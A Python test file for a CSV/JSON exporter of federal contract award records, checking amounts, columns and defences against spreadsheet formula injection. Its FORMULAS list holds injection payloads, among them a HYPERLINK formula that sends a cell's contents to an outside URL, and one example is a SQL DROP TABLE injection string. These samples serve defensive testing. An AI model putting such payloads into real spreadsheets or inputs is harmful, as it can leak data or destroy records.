"""Exports: what a spreadsheet or a script reads back, and what it must not run."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from storage.database import Database
from storage.exporting import WRITERS, Row, Value, action_rows, award_row, write_csv, write_json
from storage.query import Band, Query
from storage.reading import actions_of
from storage.searching import find_records
from tests.records import BABEL, EQUIPMENT, match
from tests.storage.tools import save

FORMULAS = (
    "=cmd()",
    '=HYPERLINK("https://example.com?"&A1;"click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "  =1",
    "- INCREMENTAL FUNDING",
)
texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))


def as_csv(*rows: Row) -> list[dict[str, str]]:
    """Write rows as CSV and read them as a spreadsheet does."""
    out = io.StringIO(newline="")
    assert write_csv(rows, out) == len(rows)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline=""), strict=True))


def as_json(*rows: Row) -> list[dict[str, object]]:
    """Write rows as JSON and read them back."""
    out = io.StringIO()
    assert write_json(rows, out) == len(rows)
    read: list[dict[str, object]] = json.loads(out.getvalue())
    return read


def exported(database: Database) -> list[Row]:
    """Return the rows of all actions that are stored."""
    with database.reading() as session:
        awards = list(find_records(session, Query(band=Band.ALL)))
        return [row for award in awards for row in action_rows(award, actions_of(session, award.key))]


def test_an_export_has_an_actions_facts_and_its_awards(database: Database) -> None:
    save(database, BABEL, match(BABEL, "babel-street", score=0.9, reason="its name is in the description"))
    rows = as_csv(*exported(database))
    assert [row["action_obligation"] for row in rows] == ["2259173.89", "3646827.09"]
    for row in rows:
        assert row["vendor"] == "Babel Street"
        assert row["matched_because"] == "its name is in the description"
        assert row["score"] == "0.9"
        assert row["recipient_name"] == "PANAMERICA COMPUTERS, INC."
        assert row["sub_agency_name"] == "U.S. Customs and Border Protection"
        assert row["obligated"] == "5906000.98"
        assert row["signed"] == "2023-09-25"
        assert row["ceiling"] == row["ends"] == ""
        assert row["record_key"] == BABEL.key
        assert row["official_page"] == f"https://www.usaspending.gov/award/{BABEL.key}/"
        assert row["first_seen"] == "2026-11-20T14:05:09.123456+00:00"


def test_json_says_the_same_with_exact_amounts(database: Database) -> None:
    save(database, BABEL, match(BABEL, "babel-street"), match(BABEL, "panamerica"))
    rows = as_json(*exported(database))
    assert [row["action_obligation"] for row in rows] == ["2259173.89", "3646827.09"]
    assert rows[0]["ceiling"] is None
    assert rows[0]["vendor"] == "Babel Street; Panamerica Computers"
    assert rows[0]["score"] == 0.97


def test_an_amount_that_is_taken_back_stays_a_number(database: Database) -> None:
    save(database, EQUIPMENT)
    rows = as_csv(*exported(database))
    assert [row["action_obligation"] for row in rows] == ["177494.75", "-939.00", "-1027.10"]
    assert [row["vendor"] for row in rows] == ["", "", ""]


def test_text_that_a_spreadsheet_would_run_is_defused(database: Database) -> None:
    for number, formula in enumerate(FORMULAS):
        hostile = replace(BABEL, key=f"K{number:02}", description=formula, actions=(), documents=())
        hostile = replace(hostile, recipient=replace(BABEL.recipient, name=formula))
        save(database, hostile, match(hostile, "babel-street", reason=formula))
    with database.reading() as session:
        rows = sorted(
            (award_row(award) for award in find_records(session, Query())), key=lambda row: str(row["record_key"])
        )
    for row, formula in zip(as_csv(*rows), FORMULAS, strict=True):
        assert row["description"] == row["recipient_name"] == row["matched_because"] == f"'{formula}"
    assert [row["description"] for row in as_json(*rows)] == list(FORMULAS)


@pytest.mark.parametrize("text", ["A=B", "1 + 1", "a@b.gov", "-", "'=1", "", " plain", "OY 1 - EXERCISE"])
def test_text_that_is_harmless_is_left_alone_but_for_a_leading_sign(text: str) -> None:
    (row,) = as_csv({"text": text, "end": "x"})
    assert row["text"] == ("'-" if text == "-" else text)


@given(text=texts)
@example('"; DROP TABLE award')
@example('two\nlines, "quoted"\r\nand 🛰 é \u202e ]]> <b>')
@example("=1\n=2")
def test_any_text_survives(text: str) -> None:
    (row,) = as_csv({"before": "x", "text": text, "after": "x"})
    assert row["text"] in (text, f"'{text}")
    assert not row["text"].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert (row["before"], row["after"]) == ("x", "x")
    assert as_json({"text": text}) == [{"text": text}]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-1.10"), "-1.10"),
        (Decimal("90071992547409.93"), "90071992547409.93"),
        (Decimal("0.00"), "0.00"),
        (date(2024, 9, 3), "2024-09-03"),
        (datetime(2026, 11, 20, 14, 5, tzinfo=UTC), "2026-11-20T14:05:00+00:00"),
        (-3, "-3"),
        (0.97, "0.97"),
        (None, ""),
    ],
)
def test_what_is_no_text_keeps_its_form(value: Value, cell: str) -> None:
    assert as_csv({"value": value, "end": "x"})[0]["value"] == cell


def test_nothing_found_is_an_empty_list() -> None:
    assert as_csv() == []
    assert as_json() == []


def test_each_row_of_json_has_its_line(database: Database) -> None:
    save(database, EQUIPMENT, match(EQUIPMENT, "panamerica"))
    out = io.StringIO()
    rows = exported(database)
    assert WRITERS["json"](rows, out) == 3
    lines = out.getvalue().splitlines()
    assert (lines[0], lines[-1], len(lines)) == ("[", "]", 5)
    assert list(json.loads(lines[1].rstrip(","))) == list(rows[0])


def test_an_award_that_concerns_nobody_has_the_same_columns(database: Database) -> None:
    save(database, EQUIPMENT)
    save(database, BABEL, match(BABEL, "babel-street"))
    with database.reading() as session:
        rows = [award_row(award) for award in find_records(session, Query(band=Band.ALL))]
    assert len(rows) == 2
    assert list(rows[0]) == list(rows[1])
    assert [row["score"] for row in rows] == [None, 0.97]
